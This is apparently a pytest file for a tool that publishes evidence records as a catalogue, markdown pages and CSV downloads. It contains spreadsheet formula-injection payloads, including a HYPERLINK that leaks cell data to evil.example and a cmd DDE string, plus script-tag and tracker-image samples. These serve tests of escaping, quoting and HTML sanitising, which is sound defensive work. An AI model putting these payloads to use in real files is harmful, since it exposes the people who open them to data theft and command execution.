"""The core without MkDocs: a fixture tree of records in, a catalogue and markdown pages out."""

from __future__ import annotations

import datetime as dt

import pytest
from conftest import FIXTURES

from publication.load import load_publication
from publication.model import Kind, Nation
from publication.pages import PageRenderer

TODAY = dt.date(2026, 1, 1)


def load_minimal():
    result = load_publication(FIXTURES / "minimal", today=TODAY)
    assert result.problems == []
    return result.catalogue


def test_the_catalogue_resolves_every_reference_once():
    catalogue = load_minimal()

    assert [p.id for p in catalogue.propositions] == ["future-can-be-local"]
    assert [e.id for e in catalogue.evidence] == ["the-paper", "treorchy-high-street"]
    entry = catalogue.recommendations["invest-in-the-hyperlocal"]
    assert entry.proposition.id == "future-can-be-local"
    assert entry.source.id == "the-paper"
    assert [e.id for e in catalogue.proposition_evidence("future-can-be-local")] == [
        "the-paper",
        "treorchy-high-street",
    ]


def test_the_catalogue_indexes_evidence_by_nation_kind_theme_and_actor():
    catalogue = load_minimal()

    assert [e.id for e in catalogue.by_nation[Nation.wales]] == ["treorchy-high-street"]
    assert [e.id for e in catalogue.by_kind[Kind.report]] == ["the-paper"]
    assert [r.id for r in catalogue.by_theme["place"]] == ["future-can-be-local", "treorchy-high-street"]
    assert [e.recommendation.id for e in catalogue.by_actor["Funders"]] == ["invest-in-the-hyperlocal"]


def test_a_proposition_page_lists_recommendations_with_anchors_and_evidence_by_kind():
    page = PageRenderer(load_minimal(), "Site").proposition_page(load_minimal().records["future-can-be-local"])

    assert "### Recommendation 6: Invest in the hyperlocal {#invest-in-the-hyperlocal}" in page
    assert "**Who should act:** Funders and UK Government" in page
    assert "*Made as recommendation 6 in [The paper](../evidence/the-paper.md) (Example Trust, 2020).*" in page
    assert (
        "### Case studies {#section_case-studies}\n\n- [Treorchy high street](../evidence/treorchy-high-street.md)"
        in page
    )
    assert "### Reports {#section_reports}\n\n- [The paper](../evidence/the-paper.md)" in page
    assert "See [Treorchy high street](../evidence/treorchy-high-street.md)." in page


def test_an_evidence_page_says_what_where_when_and_links_back():
    catalogue = load_minimal()
    page = PageRenderer(catalogue, "Site").evidence_page(catalogue.records["treorchy-high-street"])

    assert "Where\n:   Treorchy, Rhondda Cynon Taf ([Wales](../browse/nation-wales.md))" in page
    assert "When\n:   January 2019 to June 2020" in page
    assert (
        "- Proposition 3: [The future can be local (as well as global)](../propositions/future-can-be-local.md), "
        "recommendation [Invest in the hyperlocal](../propositions/future-can-be-local.md#invest-in-the-hyperlocal)."
        " Local people built it up together."
    ) in page


def test_the_print_edition_links_references_within_the_page():
    page = PageRenderer(load_minimal(), "Site").print_edition()

    assert "Local places matter. See [Treorchy high street](#treorchy-high-street)." in page
    assert "### Treorchy high street {#treorchy-high-street}" in page


def test_plain_text_is_escaped_for_markdown_and_html():
    from publication.text import plain

    assert plain("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert plain("*not bold* [not a link](x)") == "\\*not bold\\* \\[not a link\\](x)"
    assert plain("12. Not a list") == "12\\. Not a list"


def test_the_evidence_map_counts_records_and_marks_gaps():
    page = PageRenderer(load_minimal(), "Site").evidence_map()

    assert (
        '<td class="pub-map-4"><a href="future-can-be-local/wales/" '
        'aria-label="1 record for proposition 3 in Wales">1</a></td>'
    ) in page  # the fullest cell of the map: the strongest shade, linked to the page of its one record
    assert '<td class="pub-map-gap">gap</td>' in page  # nothing from Scotland, England or Northern Ireland
    assert '<li><span class="pub-map-swatch pub-map-4">1</span> record</li>' in page  # the legend


def test_a_reference_written_in_code_is_shown_as_written(tmp_path):
    import shutil

    shutil.copytree(FIXTURES / "minimal", tmp_path / "records")
    record = tmp_path / "records" / "evidence" / "treorchy-high-street.yml"
    record.write_text(
        record.read_text(encoding="utf-8").replace(
            "summary: A thriving high street in the Rhondda.",
            "summary: Link a record with `[[its-id]]`, as in [[the-paper]].",
        ),
        encoding="utf-8",
    )

    result = load_publication(tmp_path / "records", today=TODAY)

    assert result.problems == []
    page = PageRenderer(result.catalogue, "Site").evidence_page(result.catalogue.records["treorchy-high-street"])
    assert "Link a record with `[[its-id]]`, as in [The paper](the-paper.md)." in page


def test_record_html_cannot_load_from_other_hosts_or_take_material_ids():
    from publication.richtext import sanitise_html

    html = (
        '<p id="__search">x<img src="https://tracker.example/p.png" alt="a">'
        '<img src="../assets/map.png" alt="b"></p><nav>menu</nav><input type="checkbox">'
    )

    assert sanitise_html(html) == '<p>x<img alt="a"><img src="../assets/map.png" alt="b"></p>menu'


# -- downloads: spreadsheet formulas ------------------------------------------------------------------------


def _records_with_formulas(tmp_path):
    """The minimal fixture with a formula at the start of a title, a place, an actor and a recommendation."""
    import shutil

    shutil.copytree(FIXTURES / "minimal", tmp_path / "records")
    edits = {
        "evidence/treorchy-high-street.yml": [
            ("title: Treorchy high street", 'title: \'=HYPERLINK("https://evil.example/?"&A1, "Click")\''),
            ("name: Treorchy,", "name: \"+cmd|' /C calc'!A0\","),
        ],
        "propositions/future-can-be-local.yml": [
            ("title: Invest in the hyperlocal", "title: '@SUM(A1:A9)'"),
            ("actors: [Funders, UK Government]", "actors: ['-2+3', UK Government, '=1+1']"),
        ],
    }
    for relative, changes in edits.items():
        path = tmp_path / "records" / relative
        text = path.read_text(encoding="utf-8")
        for old, new in changes:
            assert old in text
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8")
    result = load_publication(tmp_path / "records", today=TODAY)
    assert result.problems == []
    return result.catalogue


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_a_cell_that_would_start_a_formula_is_written_as_text_in_every_csv_download(tmp_path):
    from publication import exports

    files = exports.export_files(_records_with_formulas(tmp_path))
    evidence = {row["id"]: row for row in _csv_rows(files[exports.EVIDENCE_CSV])}
    recommendations = _csv_rows(files[exports.RECOMMENDATIONS_CSV])

    treorchy = evidence["treorchy-high-street"]
    assert treorchy["title"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
    assert treorchy["places"] == "'+cmd|' /C calc'!A0"
    assert recommendations[0]["title"] == "'@SUM(A1:A9)"
    assert recommendations[0]["actors"] == "'-2+3; UK Government; '=1+1"  # each of a list: split at '; '?
    # Ordinary cells are as the records have them.
    assert evidence["the-paper"] == {
        "id": "the-paper",
        "kind": "report",
        "title": "The paper",
        "places": "United Kingdom",
        "nations": "uk-wide",
        "period_start": "",
        "period_end": "",
        "propositions": "future-can-be-local",
        "recommendations": "invest-in-the-hyperlocal",
        "published": "2020-07-23",
    }
    assert treorchy["period_start"] == "2019-01"
    assert recommendations[0]["made_by"] == "the-paper"


def test_every_csv_cell_is_quoted_so_no_separator_inside_one_starts_a_new_cell(tmp_path):
    from publication import exports

    text = exports.export_files(_records_with_formulas(tmp_path))[exports.RECOMMENDATIONS_CSV].decode("utf-8")

    assert text.splitlines() == [
        '"id","number","title","proposition","actors","made_by"',
        '"invest-in-the-hyperlocal","6","\'@SUM(A1:A9)","future-can-be-local",'
        '"\'-2+3; UK Government; \'=1+1","the-paper"',
    ]


@pytest.mark.parametrize(
    "cell, written",
    [
        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("Treorchy", "Treorchy"),
        ("A = B + C - D @ E", "A = B + C - D @ E"),
        ("'quoted already", "'quoted already"),
        ("", ""),
    ],
)
def test_only_a_cell_that_starts_like_a_formula_gets_the_single_quote(cell, written):
    import csv
    import io

    from publication.exports import csv_text

    text = csv_text([["id", "cell"], ["x", cell]])

    assert list(csv.reader(io.StringIO(text, newline=""))) == [["id", "cell"], ["x", written]]


def test_the_downloads_page_says_how_csv_cells_are_made_safe():
    page = PageRenderer(load_minimal(), "Site").downloads_page()

    assert (
        "Every cell of the CSV files is in double quotes, and a cell that would begin with `=`, `+`, `-`, "
        "`@`, a tab or a line break begins with a single quote (`'`) instead, so that a spreadsheet shows "
        "it as text and never runs it as a formula."
    ) in page


# -- anchors ------------------------------------------------------------------------------------------------

SECTION_NAMED_IDS = [
    "evidence",
    "history",
    "contents",
    "sources",
    "at-a-glance",
    "what-it-supports",
    "section-top",
    "by-nation",
]


def _evidence_named(record_id: str, recommendation: str) -> str:
    return (
        f"id: {record_id}\nkind: case-study\ntitle: Named {record_id}\nsummary: Its id is a section's name.\n"
        "places:\n  - {name: Treorchy, nation: wales}\nsupports:\n  - proposition: future-can-be-local\n"
        f"    recommendation: {recommendation}\n    how: It shows it.\n"
        "sources:\n  - {title: A source, publisher: LocalGov}\npublished: 2020-12-02\n"
    )


def _ids_and_links(html: str) -> tuple[list[str], list[str]]:
    import lxml.html

    doc = lxml.html.document_fromstring(html)
    return [e.get("id") for e in doc.iter() if isinstance(e.tag, str) and e.get("id")], [
        e.get("href") for e in doc.iter("a") if e.get("href")
    ]


def test_records_named_like_a_page_section_leave_every_anchor_unique_and_every_link_resolving(tmp_path):
    from urllib.parse import unquote, urljoin, urlsplit

    from conftest import make_project

    project = make_project(tmp_path / "project", FIXTURES / "minimal")
    recommendations = ["recommendations", "case-studies", "follow-this-proposition"]
    for n, record_id in enumerate(SECTION_NAMED_IDS):
        project.write(f"evidence/{record_id}.yml", _evidence_named(record_id, recommendations[n % 3]))
    proposition = project.root / "propositions" / "future-can-be-local.yml"
    proposition.write_text(
        proposition.read_text(encoding="utf-8").replace(
            "recommendations:\n",
            (
                "recommendations:\n"
                "  - {id: recommendations, title: Named like the section, text: Its id is a section's name.,"
                " actors: [Funders!]}\n"
                "  - {id: case-studies, title: Named like a kind, text: Its id is a heading's., actors: ['-2+3']}\n"
                "  - {id: follow-this-proposition, title: Named like the last section, text: Again., actors: []}\n"
            ),
        ),
        encoding="utf-8",
    )
    built = project.build()
    assert built.returncode == 0, built.stderr

    pages = {
        p.relative_to(project.site).as_posix(): p.read_text(encoding="utf-8")
        for p in project.site.rglob("*.html")
        if "assets" not in p.parts
    }
    ids = {}
    for path, html in pages.items():
        found, _ = _ids_and_links(html)
        assert len(found) == len(set(found)), (path, sorted(i for i in found if found.count(i) > 1))
        ids[path] = set(found)
    checked = set()
    for path, html in pages.items():
        for href in _ids_and_links(html)[1]:
            target = urlsplit(urljoin(f"https://site.example/{path}", href))
            if target.netloc != "site.example" or not target.fragment:
                continue
            page = target.path.lstrip("/")
            page = page + "index.html" if page.endswith("/") or not page else page
            assert unquote(target.fragment) in ids.get(page, ()), f"{path}: {href} leads nowhere"
            checked.add((path, href))
    assert {
        ("print/index.html", "#evidence"),
        ("print/index.html", "#section_evidence"),
        ("print/index.html", "#recommendations"),
        ("evidence/evidence/index.html", "../../propositions/future-can-be-local/#recommendations"),
        ("evidence/history/index.html", "../../propositions/future-can-be-local/#case-studies"),
        ("propositions/future-can-be-local/index.html", "#section_history"),
    } <= checked

    # Records keep their anchors; the page's own sections take a form no record id can.
    proposition_ids = ids["propositions/future-can-be-local/index.html"]
    assert {"recommendations", "case-studies", "follow-this-proposition"} <= proposition_ids
    assert {
        "section_recommendations",
        "section_evidence",
        "section_case-studies",
        "section_history",
        "section_follow-this-proposition",
    } <= proposition_ids
    assert {"evidence", "history", "contents", "sources", "section_evidence", "section_contents"} <= ids[
        "print/index.html"
    ]
    assert {"section_what-it-supports", "section_sources", "section_history"} <= ids["evidence/at-a-glance/index.html"]
    assert {"actor_funders", "actor_23", "section_not-named-in-the-source"} <= ids["recommendations/index.html"]


def test_names_that_give_one_slug_get_numbered_anchors():
    from publication.anchors import ACTOR_PREFIX, Unique

    anchor = Unique(ACTOR_PREFIX)

    assert [anchor(name) for name in ["Funders", "Funders!", "funders-2", "FUNDERS", "Funders", "!!!", "+-_"]] == [
        "actor_funders",
        "actor_funders-2",
        "actor_funders-2-2",
        "actor_funders-3",
        "actor_funders",
        "actor_unnamed",
        "actor_unnamed-2",
    ]


def test_a_link_between_two_site_files_is_the_relative_path_posixpath_gives():
    import posixpath

    from publication.paths import relative_link

    files = [
        "index.md",
        "updates.md",
        "evidence/index.md",
        "evidence/treorchy.md",
        "evidence/page/2.md",
        "evidence",
        "browse/nation-wales.md",
        "browse/nation-wales/page/3.md",
        "feeds/rss.xml",
        "./odd/../path.md",
    ]
    for page in files:
        for target in files:
            assert relative_link(page, target) == posixpath.relpath(target, posixpath.dirname(page) or "."), (
                page,
                target,
            )
    assert relative_link("evidence/page/2.md", "evidence/index.md", "top") == "../index.md#top"
